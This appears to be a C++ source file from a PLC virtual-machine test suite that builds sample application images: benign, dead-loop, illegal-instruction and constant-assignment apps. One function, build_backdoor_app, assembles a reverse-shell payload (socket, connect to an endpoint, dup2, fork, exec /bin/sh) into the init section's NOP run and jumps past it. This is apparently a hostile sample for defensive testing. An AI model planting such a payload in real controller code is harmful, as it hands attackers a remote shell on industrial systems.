/* Copyright 2026 The plc-gauntlet Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 * http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License. */
#include "plcg/logicvm.hpp"

namespace plcg::logicvm {

namespace {

constexpr std::size_t kJmpSize = 3;

// Linear decode of a section with jump targets rewritten as instruction indices,
// so instructions can be replaced by sequences of a different length.
struct Item {
    Bytes bytes;
    std::optional<std::size_t> target;  // index into the item list; size() means end of section
};

std::vector<Item> lift(const Bytes& code)
{
    std::vector<Item> items;
    std::vector<std::size_t> starts;
    std::map<std::size_t, std::size_t> index_of;
    std::size_t at = 0;
    while (at < code.size()) {
        auto ins = decode_at(code, at);
        index_of[at] = items.size();
        starts.push_back(at);
        items.push_back({Bytes(code.begin() + static_cast<std::ptrdiff_t>(at),
                               code.begin() + static_cast<std::ptrdiff_t>(at + ins.size)),
                         std::nullopt});
        at += ins.size;
    }
    index_of[code.size()] = items.size();
    for (std::size_t i = 0; i < items.size(); ++i) {
        auto ins = decode_at(items[i].bytes, 0);
        if (ins.op != Op::Jmp && ins.op != Op::Jz && ins.op != Op::Call)
            continue;
        auto t = static_cast<std::int64_t>(starts[i] + ins.size) + ins.off;
        auto it = index_of.find(static_cast<std::size_t>(t));
        if (t >= 0 && it != index_of.end())
            items[i].target = it->second;
    }
    return items;
}

Bytes lower(const std::vector<Item>& items)
{
    std::vector<std::size_t> addr(items.size() + 1, 0);
    for (std::size_t i = 0; i < items.size(); ++i)
        addr[i + 1] = addr[i] + items[i].bytes.size();
    Bytes out;
    for (std::size_t i = 0; i < items.size(); ++i) {
        Bytes b = items[i].bytes;
        if (items[i].target) {
            auto off = static_cast<std::int64_t>(addr[*items[i].target]) - static_cast<std::int64_t>(addr[i + 1]);
            auto u = static_cast<std::uint16_t>(static_cast<std::int16_t>(off));
            b[b.size() - 2] = static_cast<std::uint8_t>(u >> 8);
            b[b.size() - 1] = static_cast<std::uint8_t>(u);
        }
        out.insert(out.end(), b.begin(), b.end());
    }
    return out;
}

}  // namespace

AppImage build_benign_app()
{
    AppImage img;
    img.data = {{"counter", 0}, {"out", 0}, {"seed", 7}};
    img.init = Assembler().nop(48).load(0, 2).store(0, 2).finish();
    img.cyclic = Assembler()
                     .load(1, 0)
                     .addi(1, 1)
                     .store(1, 0)
                     .load(2, 1)
                     .addi(2, 2)
                     .store(2, 1)
                     .endscan()
                     .finish();
    return img;
}

AppImage build_backdoor_app(const AppImage& base, const Endpoint& endpoint)
{
    Bytes payload = Assembler()
                        .sys_socket()
                        .sys_connect(endpoint)
                        .sys_dup2(0)
                        .sys_dup2(1)
                        .sys_dup2(2)
                        .sys_fork()
                        .sys_exec("/bin/sh")
                        .finish();
    std::size_t run = 0;
    while (run < base.init.size() && base.init[run] == static_cast<std::uint8_t>(Op::Nop))
        ++run;
    if (run < payload.size() + kJmpSize)
        throw VmError(VmErrc::InitTooSmall, "init has a " + std::to_string(run) + "-byte NOP run, payload needs " +
                                                std::to_string(payload.size() + kJmpSize));

    AppImage img = base;
    std::copy(payload.begin(), payload.end(), img.init.begin());
    auto off = static_cast<std::uint16_t>(run - (payload.size() + kJmpSize));
    std::size_t j = payload.size();
    img.init[j] = static_cast<std::uint8_t>(Op::Jmp);
    img.init[j + 1] = static_cast<std::uint8_t>(off >> 8);
    img.init[j + 2] = static_cast<std::uint8_t>(off);
    return img;
}

AppImage build_deadloop_app(bool guarded)
{
    AppImage img;
    img.data = {{"v1", 0}, {"out", 0}};
    img.init = Assembler().nop(4).finish();
    Assembler a;
    if (guarded)
        a.load(0, 0).jz(0, "end");
    a.label("spin").jmp("spin").label("end").load(1, 1).addi(1, 1).store(1, 1).endscan();
    img.cyclic = a.finish();
    return img;
}

AppImage build_illegal_app(const AppImage& base)
{
    if (base.cyclic.empty())
        throw VmError(VmErrc::EmptyCyclic, "cyclic section is empty");
    auto items = lift(base.cyclic);
    // One legal instruction becomes four undefined bytes; indices after it shift by three.
    std::vector<Item> out;
    for (int i = 0; i < 4; ++i)
        out.push_back({Bytes{0xff}, std::nullopt});
    for (std::size_t i = 1; i < items.size(); ++i)
        out.push_back(items[i]);
    for (auto& it : out)
        if (it.target)
            *it.target = *it.target == 0 ? 0 : *it.target + 3;
    AppImage img = base;
    img.cyclic = lower(out);
    return img;
}

AppImage build_assign_app(Value constant)
{
    AppImage img;
    img.data = {{"K_DWORD", constant}, {"DWORD", 0}};
    img.init = Assembler().nop(8).finish();
    img.cyclic = Assembler().load(0, 0).store(0, 1).endscan().finish();
    return img;
}

}  // namespace plcg::logicvm
